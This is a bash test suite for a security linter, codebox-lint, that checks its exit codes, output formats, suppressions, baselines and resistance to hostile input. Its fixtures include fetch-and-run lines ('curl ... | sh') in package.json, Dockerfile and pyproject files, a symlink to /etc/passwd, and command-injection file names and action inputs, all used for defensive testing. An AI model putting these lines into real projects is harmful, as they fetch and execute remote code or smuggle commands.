#!/bin/bash
# SPDX-License-Identifier: MIT
# codebox-lint as a program: formats, folders, patterns, suppressions, baselines, and hostile input.
# Needs no engine.
source "$(dirname "$0")/lib.sh"
root=$PWD
lint=${LINT:-$PWD/build/codebox-lint}
cd "$work"

json() { local status=0; "$lint" --format json "$@" >"$work/report.json" 2>"$work/err.txt" || status=$?; [ "$status" -lt 3 ]; }
paths() { json "$@"; jq -r '.files[].path' "$work/report.json" | sed 's|^\./||'; }

# --- Python's own errors
as_cpython() { # the texts are those of Python 3.11, as in the sandbox
    local python=/usr/bin/python3
    "$python" -c 'import sys; sys.exit(sys.version_info[:2] != (3, 11))' 2>/dev/null || { echo 'skipped: no Python 3.11'; return 0; }
    "$python" -W ignore "$root/tests/indentation/compare.py" "$lint"
}
ok 'what Python refuses for its indentation is denied in the same words, and what it accepts is not' as_cpython

# --- exit statuses
printf 'x = 1\n' >good.py
printf 'import os\nos.system(x)\n' >bad.py
ok 'what is allowed is status 0' gives 0 '1 file checked' "$lint" good.py
ok 'what is denied is status 1' gives 1 'bad.py:2:1: deny [py.process] os.system' "$lint" good.py bad.py
ok 'what cannot be checked is status 2, whatever else is denied' gives 2 'nothing.py: No such file' "$lint" bad.py nothing.py
ok 'an unknown language is status 2' gives 2 'no language has files of this name' "$lint" /etc/hostname
ok 'an unknown option is status 2, with the nearest option' gives 2 "did you mean '--policy'" "$lint" --polcy x
ok 'an unknown format is status 2' gives 2 "allowed are: text json sarif github" "$lint" --format xml .
ok 'a number of jobs out of bounds is status 2' gives 2 'allowed are 1..256' "$lint" --jobs 0 .
ok 'no path is status 2' gives 2 'no PATH is given' "$lint"
ok 'a bad policy is status 2' gives 2 'presets are' "$lint" --policy nope good.py
ok 'standard input has the name and the language of the options' gives 1 'src/a.js:1:1: deny' "$lint" --stdin-filename src/a.js - < <(printf 'eval(x)\n')
ok 'output that cannot be written is status 2' gives 2 '' bash -c '"$0" bad.py >/dev/full' "$lint"

# --- rules
explains() { "$lint" --explain py.process >out.txt; grep -q 'Looks for:' out.txt; grep -q 'instead\|Instead' out.txt; grep -q CWE-78 out.txt; grep -q 'Found in:' out.txt; }
ok 'a rule is explained, with its examples' explains
ok 'an unknown rule is status 2, with the nearest rule' gives 2 "did you mean 'py.process'" "$lint" --explain py.proces
lists() { "$lint" --list-rules --format json | expect '(.rules | length) > 20 and (.rules[] | select(.id == "py.process") | .severity == "high" and .languages == ["python"])'; }
ok 'rules are listed as JSON' lists

# --- a notebook
cat >cells.ipynb <<'NB'
{"cells": [
 {"cell_type": "markdown", "source": ["# text"]},
 {"cell_type": "code", "source": [
  "import os as o\n",
  "x = 1"]},
 {"cell_type": "code", "source": [
  "y = x\n",
  "o.system(y)"]}],
 "metadata": {}, "nbformat": 4}
NB
cells() {
    "$lint" cells.ipynb >out.txt && return 1
    grep -q 'cells.ipynb:cell 3:2:1: deny \[py.process\]' out.txt
    json cells.ipynb; expect '.files[0].findings[0] | .cell == 3 and .line == 2 and .column == 1' report.json
    "$lint" --format github cells.ipynb >out.txt && return 1
    grep -q '^::error file=cells.ipynb,line=8,endLine=8,title=py.process (cell 3%2C line 2)::' out.txt
    "$lint" --format sarif cells.ipynb >out.txt && return 1
    expect '.runs[0].results[0] | .locations[0].physicalLocation.region.startLine == 8 and .locations[0].logicalLocations[0].name == "cell 3" and .properties.line == 2' out.txt
}
ok 'findings of a notebook name their cell in every format' cells
printf '{"cells": [{"cell_type": "code", "source": [' >broken.ipynb
ok 'a broken notebook cannot be checked' gives 2 'broken.ipynb' "$lint" broken.ipynb

notebook() { # KERNEL FIRST SECOND
    printf '{"cells": [{"cell_type": "code", "source": [\n"%s"]}, {"cell_type": "code", "source": [\n"%s"]}], "metadata": {"kernelspec": {"language": "%s"}}, "nbformat": 4}' "$2" "$3" "$1"
}
notebook bash 'x=paramiko' 'pip install $x' >shell.ipynb
notebook javascript 'const f = eval' 'f(y)' >js.ipynb
notebook Deno 'let x: number = 1' 'eval(String(x))' >deno.ipynb
notebook R 'x <- 1' 'system(x)' >r.ipynb
ok 'a notebook of the shell is judged in its language, with the cells before' gives 1 'shell.ipynb:cell 2:1:' "$lint" shell.ipynb
ok '  and one of JavaScript' gives 1 'js.ipynb:cell 1:1:11: deny [js.dynamic-code]' "$lint" js.ipynb
ok '  and one of Deno as TypeScript' gives 1 'deno.ipynb:cell 2:1:1: deny [js.dynamic-code]' "$lint" deno.ipynb
ok '  and one of R is code without an analyzer' gives 0 '0 files checked under policy default: 0 denied, 0 findings; 1 skipped: 1 file of code without an analyzer (r.ipynb: R)' "$lint" r.ipynb
ok '  which counts for --strict-coverage' gives 2 '1 file that looks like code was not judged' "$lint" --strict-coverage r.ipynb good.py
rm shell.ipynb js.ipynb deno.ipynb r.ipynb

# --- a rule that relies on the guard
printf 'n=0\nwhile read -r v; do n=$((n + v)); done <data.txt\n' >sum.sh
printf 'version: 1\nname: open\nextends: [default]\nguard: {start-process: allow, override: true}\n' >open.yaml
ok 'arithmetic on data is a warning where the guard refuses programs' gives 0 'sh.evaluated' "$lint" sum.sh
ok '  and denied where it does not' gives 1 '1 denied' "$lint" --policy open.yaml sum.sh
ok '  and under strict' gives 1 '1 denied' "$lint" --policy strict sum.sh

# --- a folder
mkdir -p tree/a/b tree/.hidden tree/node_modules tree/venv
for file in z.py a/y.py a/b/x.js a/b/w.sh .hidden/h.py node_modules/n.js venv/v.py .h.py a/n.txt; do cp bad.py "tree/$file"; done
touch tree/venv/pyvenv.cfg
printf '#!/bin/sh\n' >tree/a/b/w.sh
in_order() { for jobs in 1 2 16; do "$lint" --jobs $jobs --format json tree >"$jobs.json" || [ $? = 1 ]; cmp 1.json "$jobs.json"; done; [ "$(jq -r '.files[].path' 1.json | tr '\n' ' ')" = 'tree/a/b/w.sh tree/a/b/x.js tree/a/y.py tree/z.py ' ]; }
ok 'reports are the same and in order, however many processes' in_order
once() { [ "$(paths tree tree/z.py ./tree/a "$PWD/tree" tree | wc -l)" = 4 ]; }
ok 'a file that is named twice is checked once' once
silent() { "$lint" tree 2>err.txt >out.txt || true; [ "$(wc -l <err.txt)" = 1 ]; lacks $'\r|\033' <err.txt; lacks $'\033' <out.txt; }
ok 'there is neither progress nor colour without a terminal' silent
colours() { # prints whether a terminal gets colours
    env "$@" script -qec "$lint bad.py" /dev/null >out.txt || true
    grep -q $'\033\[1;31m' out.txt
}
no_colour() { colours NO_COLOR=1 && return 1; colours NO_COLOR=; colours TERM=xterm; }
ok 'a terminal gets colour unless NO_COLOR is set and not empty' no_colour
globs() { [ "$(paths --include '*.py' --exclude 'a/' tree)" = tree/z.py ]; [ "$(paths --include 'tree/a/' --include '*.zz' --exclude '*.sh' tree | tr '\n' ' ')" = 'tree/a/b/x.js tree/a/y.py ' ]; }
ok 'globs choose what is checked in folders' globs
# --- headers of a project
mkdir -p lab/include lab/src
printf '#define EACH(x, list) for (x = list; x; x = x->next)\n#define RUN(x) system(x)\n#define UNUSED __attribute__((unused))\n' >lab/include/each.h
printf '#include <stdlib.h>\n#include "each.h"\nstruct e { struct e *next; };\nint f(struct e *l, UNUSED int z)\n{\n    struct e *x;\n    int n = 0;\n    EACH(x, l) { n++; }\n    return n;\n}\n' >lab/src/a.c
sed 's/n++;/RUN("id");/' lab/src/a.c >lab/src/b.c
ok 'a file in C is read with the macros of the headers of its project' gives 0 '0 denied' "$lint" lab/src/a.c
ok '  and judged by what they are' gives 1 'lab/src/b.c:8:18: deny [c.process] system' "$lint" lab/src/b.c
mkdir apart && cp lab/src/b.c apart && ln -s ../lab/include/each.h apart/each.h
ok '  a header that is a symbolic link is not read' gives 0 '0 denied' "$lint" apart/b.c
explicit() { printf '*\n' >tree/.gitignore; [ -z "$(paths tree)" ] && [ "$(paths tree/z.py)" = tree/z.py ] && [ "$(paths --no-ignore tree | wc -l)" = 4 ]; "$lint" tree 2>err.txt; cat err.txt; grep -q 'skipped: 3 hidden (tree/.h.py), 2 left out by .gitignore (tree/z.py), 2 folders of dependencies' err.txt; rm tree/.gitignore; }
ok 'a file that is named is checked even when .gitignore lists it; omitted files are counted' explicit


# --- files without an ending, and skipped files
mkdir -p mixed/.github mixed/.x mixed/gi && git -C mixed init -q .
printf '#!/usr/bin/env -S python3 -u\nimport os\nos.system(x)\n' >mixed/tool
cp bad.py mixed/A.PY
cp bad.py mixed/.x/h.py
printf '#!/usr/bin/ruby\n' >mixed/rtool
printf 'text\n' >mixed/notes
printf 'a\0b' >mixed/blob
printf 'jobs: {}\n' >mixed/.github/ci.yml
judges_tools() { [ "$(paths mixed | tr '\n' ' ')" = 'mixed/A.PY mixed/tool ' ]; expect '.summary.denied == 2' report.json; }
ok 'a file without an ending is judged by its first line, and capital endings count' judges_tools
ok 'the summary has what was skipped on one line, and names what looks like code' gives 1 'findings; 5 skipped: 1 file of code without an analyzer (mixed/rtool: Ruby), 2 hidden (mixed/.github), 1 binary, 1 of no known language' "$lint" mixed
counts_json() { json mixed; expect '.summary.skipped | .count == 5 and .code == 1 and (.reasons[] | select(.reason == "no-analyzer") | .names[0] | .path == "mixed/rtool" and .language == "Ruby")' report.json; }
ok '  and JSON has it by reasons' counts_json
counts_sarif() { "$lint" --format sarif mixed >out.txt || [ $? = 1 ]; expect '.runs[0].invocations[0].properties.skipped.count == 5' out.txt; }
ok '  and SARIF' counts_sarif
hides() { [ "$(paths --hidden mixed | tr '\n' ' ')" = 'mixed/.x/h.py mixed/A.PY mixed/tool ' ]; }
ok 'dot folders are judged on request, but not those of version control' hides
ok 'code that was skipped is status 2 with --strict-coverage, in hidden folders too' gives 2 '2 files that look like code were not judged' "$lint" --strict-coverage mixed
rm mixed/rtool
printf 'gi/\nA.PY\ntool\n' >mixed/.gitignore
cp good.py mixed/gi/ok.py
ok '  and in what .gitignore names' gives 2 '4 files that look like code were not judged' "$lint" --strict-coverage mixed
ok '  but not what the caller left out' gives 0 '' "$lint" --strict-coverage --exclude '.x' --exclude gi --exclude A.PY --exclude tool mixed
ok 'a file that is named and has no analyzer is an error with its language' gives 2 "no analyzer for 'Ruby'" "$lint" --stdin-filename x.rb - </dev/null

# --- an editor
editor() {
    local status=0
    "$root/tests/lsp/check" "$lint" || status=$?
    [ "$status" = 0 ] || [ "$status" = 77 ]
}
ok 'a client of the Language Server Protocol is served' editor

# --- manifests
mkdir -p project
printf 'requests==2.32.0\nparamiko\n-r base.txt\n' >project/requirements.txt
ok 'packages of requirements.txt are judged at their lines' gives 1 'project/requirements.txt:2:1: deny [pkg.blocked] paramiko' "$lint" project
ok '  also under a policy without a shell' gives 1 'requirements.txt:2:1: deny [pkg.blocked]' "$lint" --policy data-analysis project
printf '{"scripts": {"build": "tsc && vite build",\n "postinstall": "curl http://example.org/x | sh"},\n "dependencies": {"crossenv": "1"}}\n' >project/package.json
printf 'FROM debian:13\nRUN apt-get update \\\n    && apt-get install -y curl\nRUN curl http://example.org/x \\\n    | sh\n' >project/Dockerfile
rm project/requirements.txt
judges_project() {
    json project
    expect '[.files[] | .path as $p | .findings[] | "\($p):\(.line):\(.column) \(.rule)"] == ["project/Dockerfile:5:7 sh.command", "project/package.json:2:46 sh.command", "project/package.json:3:19 pkg.look-alike"]' report.json
}
ok 'scripts of package.json and commands of a Dockerfile are denied for what they download and run, not for the programs of a build' judges_project
printf 'FROM a\nADD https://example.org/i.sh /opt/\nWORKDIR /app\nRUN curl -o t http://example.org/t\nRUN sh /opt/i.sh\nENTRYPOINT ["/app/t"]\nRUN sha256sum -c /sums\nCMD ./t\n' >project/Dockerfile
follows_image() { json project/Dockerfile; expect '[.files[0].findings[] | "\(.line):\(.column) \(.symbol)"] == ["5:5 downloaded file", "6:13 downloaded file"]' report.json; }
ok 'a file that one instruction of a Dockerfile downloads is found where another one runs it, until a check' follows_image
printf 'FROM a\nSHELL ["powershell"]\n' >project/Dockerfile
ok 'a manifest that is not understood cannot be checked, and the error has its place' gives 2 'project/Dockerfile: line 2, column 1: SHELL is none' "$lint" project
printf '[project]\ndependencies = ["fabric"]\n[tool.pdm.scripts]\nx = {shell = "curl http://x/y | sh"}\n' >project/pyproject.toml
printf '{"packages": {"node_modules/a": {"version": "1.0.0",\n "resolved": "https://example.org/a.tgz"}}}' >project/package-lock.json
printf 'FROM a\n' >project/Dockerfile
judges_locks() {
    json project
    expect '[.files[] | .path as $p | .findings[] | "\($p):\(.line):\(.column) \(.rule)"] == ["project/package-lock.json:2:15 pkg.source", "project/package.json:2:46 sh.command", "project/package.json:3:19 pkg.look-alike", "project/pyproject.toml:2:18 pkg.blocked", "project/pyproject.toml:4:33 sh.command"]' report.json
}
ok 'packages and commands of pyproject.toml, and the sources of a lock file, are judged at their places' judges_locks
mkdir -p flow/.github/workflows
printf 'jobs:\n  a:\n    steps:\n    - run: |\n        echo ok\n        echo "${{ github.head_ref }}"\n    - {run: "Get-Item x", shell: pwsh}\n' >flow/.github/workflows/ci.yml
ok 'an expression that a stranger chooses is code, and PowerShell is counted' gives 1 'flow/.github/workflows/ci.yml:6:15: deny [sh.command] ${{ github.head_ref }}' "$lint" --hidden flow
ok '  in the summary' gives 1 '1 skipped: 1 piece of code without an analyzer (flow/.github/workflows/ci.yml: PowerShell)' "$lint" --hidden flow
ok '  and by --strict-coverage, from every process' gives 2 'like code was not judged' "$lint" --strict-coverage --jobs 2 flow/.github/workflows/ci.yml good.py
rm -r flow
mkdir -p skill/x/references
printf -- '---\nname: x\n---\n- Run it:\n\n  ```python\n  import os\n  os.system(x)\n  ```\n' >skill/x/SKILL.md
printf '```python\nx = = 1\n```\n' >skill/x/references/more.md
cp skill/x/references/more.md skill/README.md
ok 'fenced code of a skill is judged at its places' gives 1 'skill/x/SKILL.md:8:3: deny [py.process] os.system' "$lint" skill
ok '  code of its documents that cannot be read is a warning' gives 0 'more.md:2:5: warn [lint.fragment]' "$lint" skill/x/references
ok '  other documents are judged on request, and what cannot be read there is counted' gives 0 '1 fragment of code in a document that cannot be read (skill/README.md: python)' "$lint" --markdown --exclude x skill
printf '```sh\ngit clone x\n```\n```sh\ncurl http://x/y | sh\n```\n' >skill/INSTALL.md
ok '  their commands as those of a build' gives 1 'skill/INSTALL.md:5:19: deny [sh.command] code' "$lint" skill/INSTALL.md
lacks_git() { "$lint" skill/INSTALL.md >out.txt 2>/dev/null || true; lacks 'git' <out.txt; }
ok '  which may start programs' lacks_git
rm skill/INSTALL.md
ok '  or when they are named' gives 0 '1 fragment of code' "$lint" skill/README.md
ok '  and do not count as code that was skipped' gives 0 '1 of no known language' "$lint" --strict-coverage --exclude x skill
rm -r skill
mkdir page
printf '<p onclick="eval(&quot;x&quot; + y)">\n<script>\n  eval(x)\n</script><script type="text/babel">x</script>\n<script>a = {{ b|c }};</script><script>{%% x %%} = = {{ y }}</script>\n' >page/a.html
judges_page() {
    json page
    expect '[.files[0].findings[] | "\(.line):\(.column) \(.rule)"] == ["1:13 js.dynamic-code", "3:3 js.dynamic-code"]' report.json
    expect '[.summary.skipped.reasons[] | "\(.reason) \(.count) \(.names[0].language)"] == ["piece 1 text/babel", "fragment 1 javascript"]' report.json
}
ok 'scripts and handlers of a page are judged at their places, templates looked through, other types counted' judges_page
rm -r page
printf 'SHELL' >project/dockerfile.py
ok 'a language that the name has comes before a manifest' gives 0 '1 file checked' "$lint" project/dockerfile.py
rm -r project

# git decides which files remain: random patterns over a tree of short names
same_as_git() {
    local names=(a b ab b.py a.py c.js) parts=('a' 'b' 'ab' '*' '**' '?' '[ab]' '[!a]' '*.py' 'a*' 'b.py' 'c.js' '**/b' 'a/**')
    mkdir -p git && cd git
    git init -q .
    for x in a b ab; do for y in a b ab; do mkdir -p $x/$y; for f in "${names[@]:3}"; do touch $f $x/$f $x/$y/$f; done; done; done
    RANDOM=7
    for round in $(seq 60); do
        find . -name .gitignore -delete
        for folder in . a b a/ab; do
            for _ in 1 2 3 4; do
                pattern=
                [ $((RANDOM % 4)) != 0 ] || pattern=!
                [ $((RANDOM % 4)) != 0 ] || pattern+=/
                pattern+=${parts[RANDOM % ${#parts[@]}]}
                [ $((RANDOM % 2)) != 0 ] || pattern+=/${parts[RANDOM % ${#parts[@]}]}
                [ $((RANDOM % 4)) != 0 ] || pattern+=/
                printf '%s\n' "$pattern"
            done >$folder/.gitignore
        done
        git ls-files -o --exclude-standard | grep -v gitignore | LC_ALL=C sort >../git.txt || true
        paths . >../ours.txt
        cmp -s ../git.txt ../ours.txt || { echo "round $round"; head $(find . -name .gitignore); diff ../git.txt ../ours.txt; return 1; }
    done
}
ok '.gitignore leaves out what git leaves out' same_as_git

# --- SARIF
printf 'x = "\t日本語 é"; import os as o; o.system(1)\r\n' >'tree/wide é%.py'
printf 'import os # codebox: allow py.process -- why\nos.fork() # codebox: allow py.process -- it is the build\n' >tree/allowed.py
printf 'version: 1\nname: lax\nextends: [default]\nsuppressions: {inline: true, override: true}\n' >lax.yaml
sarif() { # FILE ARGUMENTS ...
    local file=$1 status=0
    shift
    "$lint" --quiet --format sarif "$@" >"$file" || status=$?
    [ "$status" = 1 ] || [ "$status" = 2 ]
}
valid() {
    "$lint" --policy ./lax.yaml --write-baseline old.json tree/z.py tree/a cells.ipynb >/dev/null 2>&1 || true
    sarif a.sarif --policy ./lax.yaml --baseline old.json tree cells.ipynb bad.py good.py
    sarif b.sarif --policy strict . /nonexistent.py broken.ipynb
    sarif c.sarif - < <(cat bad.py)
    local status=0
    "$root/tests/sarif/validate" a.sarif b.sarif c.sarif || status=$?
    [ "$status" = 0 ] || [ "$status" = 77 ]
}
ok 'SARIF is valid by the schema and by the rules of the standard' valid
sarif_says() {
    expect '.runs[0] | .columnKind == "unicodeCodePoints" and (.results | map(.suppressions) | all(type == "array"))
        and (.results | map(.suppressions[].kind) | unique) == ["external", "inSource"]
        and (. as $run | .results | all(. as $r | $run.tool.driver.rules[$r.ruleIndex].id == $r.ruleId))
        and (.results | map(.locations[0].physicalLocation.artifactLocation.uri) | index("tree/wide%20%C3%A9%25.py") != null)' a.sarif
    expect '.runs[0].tool.driver.rules[] | select(.id == "py.process") | .properties["security-severity"] == "8.0" and (.properties.tags | index("CWE-78") != null and index("ATT&CK T1059") != null) and .defaultConfiguration.level == "error" and (.help.markdown | contains("Found in:"))' a.sarif
    expect '.runs[0].invocations[0] | .executionSuccessful == false and (.toolExecutionNotifications | length) == 2' b.sarif
    expect '.runs[0].results | map(select(.locations[0].physicalLocation.artifactLocation.uri == "tree/wide%20%C3%A9%25.py"))[0].locations[0].physicalLocation.region.startColumn == 31' a.sarif
}
ok 'SARIF names rules, places, and suppressed findings' sarif_says
stable() {
    sed 's/^/  /;1i # moved' bad.py >moved.py # another indent, another line
    printf 'if 1:\n' | cat - moved.py >in.py
    fingerprint() { "$lint" --format sarif --stdin-filename x.py - <"$1" 2>/dev/null | jq -r '.runs[0].results[0].partialFingerprints[]'; }
    [ -n "$(fingerprint bad.py)" ] && [ "$(fingerprint bad.py)" = "$(fingerprint in.py)" ]
}
ok 'fingerprints stay when lines are moved' stable

# --- suppressions in the source
ok 'a suppression has no effect where the policy permits none, and a warning names the policy' gives 1 'the policy permits no suppressions' "$lint" tree/allowed.py
counts() { "$lint" --policy ./lax.yaml tree/allowed.py 2>&1 | tee out.txt; grep -q '0 denied, 1 finding, 1 suppressed' out.txt; grep -q 'lint.suppression' out.txt; }
ok 'where the policy permits suppressions they do not count, and one without effect is a finding' counts
ok 'suppressed findings are shown on request' gives 0 'suppressed in the source: it is the build' "$lint" --policy ./lax.yaml --show-suppressed tree/allowed.py
printf 'x = ( # codebox: allow source.syntax -- why\n' >syntax.py
ok 'a syntax error cannot be suppressed' gives 1 'cannot be suppressed' "$lint" --policy ./lax.yaml syntax.py
printf 'version: 1\nname: lax\nextends: [default]\nsuppressions: {inline: true}\n' >slack.yaml
ok 'a policy that extends another cannot permit suppressions without override' gives 2 'more findings can be suppressed' "$lint" --policy ./slack.yaml good.py
others() { # no other program reads them
    [ -x "$codebox" ] || return 0
    local status=0
    "$codebox" run --policy ./lax.yaml --state "$state" --docker-host unix:///nonexistent tree/allowed.py >out.txt 2>&1 || status=$?
    [ "$status" != 0 ]
}
ok 'the gateway has no suppressions' others

# --- baselines
baseline() {
    cp bad.py old.py
    "$lint" --write-baseline base.json old.py good.py >out.txt 2>&1
    "$lint" --baseline base.json old.py >out.txt 2>err.txt
    [ ! -s out.txt ]; grep -q '0 findings, [0-9]* suppressed' err.txt
    printf '\n\n# moved\n  \n' | cat - bad.py >old.py
    "$lint" --baseline base.json old.py
    printf 'os.system(x)\n' >>old.py
    "$lint" --baseline base.json old.py >out.txt && return 1
    grep -q 'old.py:7:1: deny' out.txt
    printf 'x = 1\n' >old.py
    "$lint" --baseline base.json old.py 2>&1 | grep -q 'of the baseline no longer there'
    "$lint" --baseline base.json good.py 2>err.txt; lacks 'no longer' <err.txt # old.py was not read
}
ok 'a baseline suppresses old findings wherever they are moved to, and counts those that are corrected' baseline
keeps() { "$lint" --write-baseline syntax.json syntax.py >/dev/null 2>&1 && return 1; "$lint" --baseline syntax.json syntax.py >/dev/null 2>&1 && return 1; expect '.findings == []' syntax.json; }
ok 'a baseline has no syntax errors' keeps
whole() { cp base.json kept.json; "$lint" --write-baseline kept.json bad.py nothing.py >/dev/null 2>&1 && return 1; cmp base.json kept.json; }
ok 'a baseline is not written when a file could not be checked' whole
hostile_baselines() {
    mkfifo pipe.json
    head -c 70000000 /dev/zero | tr '\0' ' ' >huge.json
    gives 2 'not a regular file' "$lint" --baseline pipe.json good.py
    gives 2 'larger than' "$lint" --baseline huge.json good.py
    gives 2 'is a directory' "$lint" --baseline tree good.py || gives 2 'not a regular file' "$lint" --baseline tree good.py
    printf '{"version": 9, "tool": "codebox-lint", "findings": []}' >nine.json
    gives 2 "'version' is 9" "$lint" --baseline nine.json good.py
    printf '[%.0s' $(seq 100000) >deep.json
    gives 2 'nested deeper' "$lint" --baseline deep.json good.py
    rm -f huge.json deep.json pipe.json
}
ok 'a malformed baseline is refused with the reason' hostile_baselines

# --- hostile input
mkdir -p hostile && cd hostile
ln -s . loop && ln -s loop/loop link && mkfifo pipe.py && mkdir closed.py && printf 'import os\nos.system(x)\n' >$'new\nline.py'
cp $'new\nline.py' $'bad\xff.py' && cp $'new\nline.py' '::error file=x::y.py' && ln -s /etc/passwd passwd.py && : >empty.py && head -c 2000000 /dev/zero >zeros.py
cd ..
quietly() { # no line of the report begins with text of a file's name
    "$lint" hostile >out.txt 2>err.txt && return 1
    grep -qF 'hostile/new\x0aline.py:2:1' out.txt; grep -qF 'hostile/bad\xff.py' out.txt
    (cd hostile && "$lint" --format github . >../out.txt) || [ $? = 1 ]
    [ "$(grep -vc '^::error file=' out.txt)" = 0 ]
    grep -q '^::error file=new%0Aline.py,' out.txt
    grep -q '^::error file=%3A%3Aerror file=x%3A%3Ay.py,' out.txt
    json hostile; jq .files report.json | lacks passwd
}
ok 'names with line ends, invalid UTF-8 and commands in them are only names; links and pipes are left alone' quietly
ok 'a pipe that is named is refused' gives 2 'not a regular file' "$lint" hostile/pipe.py
ln -s "$PWD/bad.py" named.py && ln -s "$PWD/tree" linked
ok 'a link that is named is followed' gives 1 'named.py:2:1: deny' "$lint" named.py
ok 'a named link to a folder is followed' gives 1 'linked/z.py:2:1: deny' "$lint" linked
unreadable() { cp bad.py closed.py; chmod 0 closed.py; setpriv --reuid 65534 --regid 65534 --clear-groups "$lint" closed.py >out.txt 2>&1 && return 1; [ $? = 1 ] || true; grep -q 'Permission denied' out.txt; rm -f closed.py; }
if [ "$(id -u)" = 0 ] && chmod 755 "$work" && setpriv --reuid 65534 --regid 65534 --clear-groups "$lint" --version >/dev/null 2>&1; then ok 'a file that cannot be read is told' unreadable; fi
patterns() { # a warning reports excess patterns, which have no effect; many patterns take little time
    mkdir -p many && cp bad.py many/
    seq 30000 >many/.gitignore
    gives 2 'patterns, allowed are 20000' "$lint" many
    { seq 19000 | sed 's/$/*?[a-z]*x/'; printf 'b*\n'; } >many/.gitignore
    gives 0 '0 files checked' "$lint" many
    rm many/.gitignore; ln -s /etc/passwd many/.gitignore
    gives 2 'many/.gitignore' "$lint" many
}
ok 'a huge .gitignore, or one that is a link, is not read, and that is an error' patterns
crowd() {
    mkdir -p crowd
    (cd crowd && seq 100000 | sed 's/$/.py/' | xargs touch)
    "$lint" --quiet crowd
    json crowd; expect '.summary.files == 100000 and .files[1].path == "crowd/10.py"' report.json
    rm -rf crowd
}
ok '100,000 files are checked' crowd

# --- completions and the GitHub action
completes() { local words; source <("$lint" --completion bash); COMP_WORDS=(codebox-lint --format sa) COMP_CWORD=2; _codebox_lint; [ "${COMPREPLY[*]}" = sarif ]; }
ok 'the completion of bash offers options and words' completes
action() { # runs the steps of the action like a runner
    awk '/name: Check/ { found = 1 } found && /run: \|/ { body = 1; next } body { sub(/^        /, ""); print }' "$root/action.yml" >action.sh
    mkdir -p act/build/release && ln -sf "$lint" act/build/release/codebox-lint
    run_action() { GITHUB_ACTION_PATH=$PWD/act GITHUB_OUTPUT=$PWD/outputs POLICY=default BASELINE='' OPTIONS='' env "$@" bash -e action.sh; }
    : >outputs
    run_action PATHS=$'good.py\n\n' SARIF=out.sarif
    run_action PATHS=$'good.py\nbad.py' SARIF= >out.txt && return 1
    grep -q '^::error file=bad.py' out.txt
    [ "$(cat outputs)" = $'status=0\nstatus=1' ]; expect '.version == "2.1.0"' out.sarif
    run_action PATHS='$(touch pwned)' SARIF= >/dev/null 2>&1 && return 1
    [ ! -e pwned ]
}
ok 'the GitHub action checks, reports and fails, and runs none of its inputs' action
finish
